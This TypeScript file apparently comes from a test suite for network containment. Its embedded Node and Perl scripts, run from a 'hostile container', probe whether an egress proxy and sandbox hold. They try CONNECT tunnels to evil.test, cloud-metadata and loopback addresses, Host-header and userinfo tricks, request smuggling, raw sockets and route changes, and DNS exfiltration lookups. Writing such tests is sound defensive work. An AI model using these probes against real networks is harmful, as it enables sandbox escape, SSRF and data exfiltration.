/** The targets of a hostile container. */
export interface AttackSettings {
  readonly ports: { readonly secret: number; readonly web: number; readonly echo: number };
  /** The address of the machine in its network. */
  readonly target: string;
  /** Addresses and ports that are dialed without the proxy. */
  readonly direct: readonly (readonly [string, number])[];
  /** Hosts and ports that the proxy must refuse, although the profile has some of them. */
  readonly refused: readonly string[];
  /** Nameservers that are asked directly. */
  readonly nameservers: readonly (readonly [string, number])[];
}

/** The results of the attacks: `open`, a status, or the code of an error. */
export interface AttackResult {
  readonly direct: readonly (readonly [string, number, string])[];
  readonly proxy: readonly (readonly [string, string])[];
  readonly names: readonly (readonly [string, string])[];
  readonly nameservers: readonly string[];
  readonly serverNames: { readonly allowed: string; readonly other: string };
  readonly allowed: Readonly<Record<'proxy' | 'connect' | 'transparent' | 'tcp', string>>;
}

/** Perl that opens a raw socket for ICMP. */
export const RAW_SOCKET = 'socket(my $s, 2, 3, 1) ? print "open" : print "refused: $!"';

/**
 * Perl that routes one address through another, which needs rights that no server has. Its
 * arguments are these two addresses.
 */
export const ADD_ROUTE = String.raw`
sub address { pack('S n a4 x8', 2, 0, pack('C4', split(/\./, shift))) }
socket(my $s, 2, 2, 0);
my $route = pack('x8') . address($ARGV[0]) . address($ARGV[1]) . address('255.255.255.255') . pack('S x62', 7);
print ioctl($s, 0x890b, $route) ? 'routed' : "failed: $!";
`;

/**
 * The program that asks a proxy for a tunnel, for `node -e`. Its arguments are the address of the
 * proxy, and the host and port of the tunnel.
 */
export const ASK_PROXY = String.raw`
const [host, authority] = process.argv.slice(1);
const socket = require('net').connect(3128, host, () => socket.write('CONNECT ' + authority + ' HTTP/1.1\r\nHost: ' + authority + '\r\n\r\n'));
let answer = '';
const end = () => { console.log(answer.slice(9, 12) || 'nothing'); process.exit(); };
socket.on('data', (part) => { answer += part; }).on('close', end).on('error', end);
setTimeout(end, 1500);
`;

/** The program of a hostile container, for `node -e`. Its argument is {@link AttackSettings}. */
export const ATTACKS = String.raw`
const net = require('net'), dns = require('dns').promises, dgram = require('dgram'), http = require('http'), tls = require('tls');
const { ports, target, direct, refused, nameservers } = JSON.parse(process.argv[1]);
const proxy = new URL(process.env.HTTP_PROXY);
const dial = ([host, port]) => new Promise((done) => {
  const end = (outcome) => { socket.destroy(); done([host, port, outcome]); };
  const socket = net.connect({ host, port });
  socket.setTimeout(2500, () => end('timeout'));
  socket.on('connect', () => end('open')).on('error', (error) => end(error.code));
});
// Sends text to the proxy, and another one after the first answer. Returns the status of the last answer.
const send = ([title, text, next = '']) => new Promise((done) => {
  const socket = net.connect(proxy.port, proxy.hostname, () => socket.write(text));
  let answer = '';
  const end = () => { socket.destroy(); done([title, (answer.match(/HTTP\/1.1 (\d+)/g) || ['no answer']).at(-1).slice(-3)]); };
  socket.setTimeout(2500, end);
  socket.on('data', (part) => { answer += part; socket.write(next); next = ''; }).on('close', end).on('error', end);
});
const connect = (authority, host = authority) => ['CONNECT ' + authority, 'CONNECT ' + authority + ' HTTP/1.1\r\nHost: ' + host + '\r\n\r\n'];
const get = (url, host = new URL(url).host) => ['GET ' + url + ' for ' + host, 'GET ' + url + ' HTTP/1.1\r\nHost: ' + host + '\r\nConnection: close\r\n\r\n'];
const web = ports.web;
const requests = [
  ...refused.map((authority) => connect(authority)),
  connect('evil.test:' + web), connect('allowed.test:' + ports.secret), connect('allowed.test:22'), connect(target + ':' + web),
  connect('127.0.0.1:3128'), connect('[::1]:3128'), connect('localhost:' + web), connect('2130706433:' + web), connect('0x7f000001:' + web),
  connect('rebound.bad.test:' + web), connect('metadata.bad.test:80'), connect('169.254.169.254:80'), connect('[fd00:ec2::254]:80'),
  connect('host.docker.internal:' + ports.secret), connect('gateway.docker.internal:' + web), connect('172.17.0.1:' + web),
  connect('[::ffff:' + target + ']:' + web), connect('allowed.test:' + web, 'evil.test:' + web), connect('allowed.test.evil.test:' + web),
  connect('allowed.test@evil.test:' + web), connect(proxy.host),
  get('http://evil.test:' + web + '/'), get('http://allowed.test:' + web + '/', 'evil.test'), get('http://allowed.test:' + ports.secret + '/'),
  get('http://allowed.test@evil.test:' + web + '/', 'evil.test:' + web), get('http://rebound.bad.test:' + web + '/'), get('https://allowed.test/'),
  ['keep-alive', 'GET http://allowed.test:' + web + '/ HTTP/1.1\r\nHost: allowed.test:' + web + '\r\n\r\n', get('http://evil.test:' + web + '/')[1]],
  ['two lengths', 'POST http://allowed.test:' + web + '/ HTTP/1.1\r\nHost: allowed.test:' + web + '\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n'],
  ['two hosts', 'GET / HTTP/1.1\r\nHost: allowed.test\r\nHost: evil.test\r\n\r\n'],
];
const ask = ([host, port]) => new Promise((done) => {
  const socket = dgram.createSocket('udp4');
  const end = (outcome) => { clearTimeout(timer); socket.close(); done(outcome); };
  const timer = setTimeout(() => end('silent'), 2000);
  socket.on('message', () => end('answered')).on('error', () => end('silent'));
  const query = Buffer.from('000701000001000000000000046461746104657669' + '6c04746573740000010001', 'hex');
  socket.send(query, port, host, (error) => { if (error) end('silent'); });
});
const label = 'd'.repeat(63);
const lookups = [
  ['A of another name', () => dns.resolve4('evil.test')], ['TXT of another name', () => dns.resolveTxt('data.evil.test')],
  ['long labels', () => dns.resolve4([label, label, label, 'evil.test'].join('.'))], ['NULL', () => dns.resolve('data.evil.test', 'NAPTR')],
  ['TXT of an allowed name', () => dns.resolveTxt('stolen-data.wild.test')], ['AAAA', () => dns.resolve6('allowed.test')],
  ['the gateway', () => dns.resolve4('host.docker.internal')],
];
const text = (options) => new Promise((done) => http.get(options, (r) => { let t = ''; r.on('data', (p) => { t += p; }).on('end', () => done(t)); }).on('error', (e) => done(e.code)));
const tunnelled = () => new Promise((done) => {
  const socket = net.connect(proxy.port, proxy.hostname, () => socket.write(connect('allowed.test:' + web)[1]));
  socket.on('error', () => done('failed')).once('data', () => text({ createConnection: () => socket, headers: { host: 'allowed.test' } }).then(done));
});
const tcp = () => new Promise((done) => {
  const socket = net.connect(ports.echo, 'allowed.test', () => socket.write('ping'));
  socket.on('data', (part) => { socket.destroy(); done(String(part)); }).on('error', (e) => done(e.code)).on('close', () => done('closed'));
});
// An allowed ClientHello comes back from the echo server, which is no valid answer of TLS.
const hello = (servername) => new Promise((done) => {
  const socket = tls.connect({ host: 'allowed.test', port: ports.echo, servername });
  socket.on('error', (error) => done(error.code === 'ECONNRESET' ? 'closed' : 'passed')).on('close', () => done('closed'));
});
(async () => {
  const result = {
    direct: await Promise.all(direct.map(dial)),
    proxy: await Promise.all(requests.map(send)),
    names: await Promise.all(lookups.map(async ([title, run]) => [title, await run().then((found) => JSON.stringify(found), (error) => error.code)])),
    nameservers: await Promise.all(nameservers.map(ask)),
    serverNames: { allowed: await hello('allowed.test'), other: await hello('evil.test') },
    allowed: {
      proxy: await text({ host: proxy.hostname, port: proxy.port, path: 'http://allowed.test:' + web + '/', headers: { host: 'allowed.test:' + web } }),
      connect: await tunnelled(), transparent: await text('http://allowed.test:' + web + '/'), tcp: await tcp(),
    },
  };
  console.log(JSON.stringify(result));
  process.exit();
})();
`;
